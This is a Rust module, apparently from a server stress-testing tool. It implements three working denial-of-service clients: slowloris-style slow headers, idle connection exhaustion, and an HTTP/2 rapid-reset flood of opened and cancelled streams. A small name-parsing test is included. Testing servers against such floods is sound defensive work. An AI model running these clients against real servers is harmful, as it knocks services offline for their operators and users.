//! Clients that mean no good, at a steady pace.

use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{interval, sleep, timeout};

use crate::frame::frame;

/// How long a connection waits before it comes again.
const AGAIN: Duration = Duration::from_millis(100);
/// So many connections share the streams that are reset.
const RESETTING: u32 = 10;

/// What is done.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// So many connections send a head, a byte each second.
    SlowHeads { connections: u32 },
    /// So many connections say nothing.
    Idle { connections: u32 },
    /// So many streams of HTTP/2 are opened and reset each second.
    Resets { each_second: u32 },
}

impl Attack {
    /// The name on the command line and in the report, and how much of it.
    pub fn written(self) -> (&'static str, u32) {
        match self {
            Self::SlowHeads { connections } => ("slow-heads", connections),
            Self::Idle { connections } => ("idle", connections),
            Self::Resets { each_second } => ("resets", each_second),
        }
    }

    /// The attack of this name.
    pub fn read(name: &str, count: u32) -> Option<Self> {
        Some(match name {
            "slow-heads" => Self::SlowHeads { connections: count },
            "idle" => Self::Idle { connections: count },
            "resets" => Self::Resets { each_second: count },
            _ => return None,
        })
    }

    /// Goes on until the process is ended.
    ///
    /// # Errors
    /// A runtime that does not start.
    pub fn run(self, address: SocketAddr) -> io::Result<()> {
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()?;
        runtime.block_on(async {
            match self {
                Self::SlowHeads { connections } => {
                    spawn(connections, move || slow_head(address));
                }
                Self::Idle { connections } => {
                    spawn(connections, move || silence(address));
                }
                Self::Resets { each_second } => {
                    let each = (each_second / RESETTING).max(1);
                    spawn(RESETTING, move || resets(address, each));
                }
            }
            std::future::pending().await
        })
    }
}

/// So many tasks that do this again and again, whatever comes of it.
fn spawn<F>(count: u32, again: impl Fn() -> F + Clone + Send + 'static)
where
    F: Future<Output = io::Result<()>> + Send,
{
    for number in 0..count {
        let again = again.clone();
        tokio::spawn(async move {
            // Not all of them in one moment.
            sleep(Duration::from_millis(u64::from(number % 2000))).await;
            loop {
                let _ = again().await; // refused or cut: that is what it is about
                sleep(AGAIN).await;
            }
        });
    }
}

async fn slow_head(address: SocketAddr) -> io::Result<()> {
    let mut stream = TcpStream::connect(address).await?;
    stream
        .write_all(b"GET / HTTP/1.1\r\nhost: h57.example.com\r\nx-slow: ")
        .await?;
    loop {
        let heard = timeout(Duration::from_secs(1), stream.read(&mut [0; 1024])).await;
        if let Ok(read) = heard {
            return read.map(drop); // answered, and closed
        }
        stream.write_all(b"x").await?;
    }
}

async fn silence(address: SocketAddr) -> io::Result<()> {
    let mut stream = TcpStream::connect(address).await?;
    stream.read(&mut [0; 1024]).await.map(drop)
}

async fn resets(address: SocketAddr, each_second: u32) -> io::Result<()> {
    let stream = TcpStream::connect(address).await?;
    let (mut reading, mut writing) = stream.into_split();
    let gone = tokio::spawn(async move {
        let mut room = vec![0; 16 * 1024];
        while reading.read(&mut room).await.is_ok_and(|read| read > 0) {}
    });
    writing
        .write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        .await?;
    writing.write_all(&frame(4, 0, 0, b"")).await?;
    let mut ticks = interval(Duration::from_millis(100));
    let mut stream = 1;
    while !gone.is_finished() {
        ticks.tick().await;
        let mut batch = Vec::new();
        for _ in 0..each_second.div_ceil(10) {
            // GET, http, and a path and a host as they are (RFC 7541, 6.2.2).
            let mut fields = vec![0x82, 0x86];
            for (name, value) in [(4, "/p42/page"), (1, "h57.example.com")] {
                fields.extend([name, value.len() as u8]);
                fields.extend(value.as_bytes());
            }
            batch.extend(frame(1, 5, stream, &fields)); // END_STREAM, END_HEADERS
            batch.extend(frame(3, 0, stream, &8_u32.to_be_bytes())); // CANCEL
            stream += 2;
        }
        writing.write_all(&batch).await?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_attack_is_read_as_it_is_written() {
        for attack in [
            Attack::SlowHeads { connections: 1 },
            Attack::Idle { connections: 2 },
            Attack::Resets { each_second: 3 },
        ] {
            let (name, count) = attack.written();
            assert_eq!(Attack::read(name, count), Some(attack));
        }
        assert_eq!(Attack::read("kindness", 1), None);
    }
}
